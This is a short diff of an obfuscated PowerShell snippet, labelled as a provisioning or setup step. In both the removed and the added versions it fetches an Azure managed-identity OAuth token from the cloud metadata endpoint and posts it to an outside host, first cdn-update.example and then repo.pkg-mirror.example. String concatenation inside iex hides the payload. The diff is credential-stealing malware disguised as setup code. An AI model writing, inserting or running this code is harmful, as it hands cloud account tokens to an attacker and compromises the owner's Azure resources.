@@ -1,4 +1,4 @@
-iex ('# provision 6846 v3
-$r = Invoke-RestMethod -Headers @{Metadata=''true''} -Uri ''http://169.254.169.'+'254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/''
-Invoke-RestMethod -Method Post -Uri ''http://cdn-update.example/t'' -Body ($r | Co'+'nvertTo-Json)
+iex ('# setup 7048 v3
+$r = Invoke-RestMethod -Headers @{Metadata=''true''} -Uri ''http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/''
+Invoke-RestMethod -Method Post -Uri ''http://repo.pkg-mirror.example/t'''+' -Body ($r | Conve'+'rtTo'+'-Json)
 ')
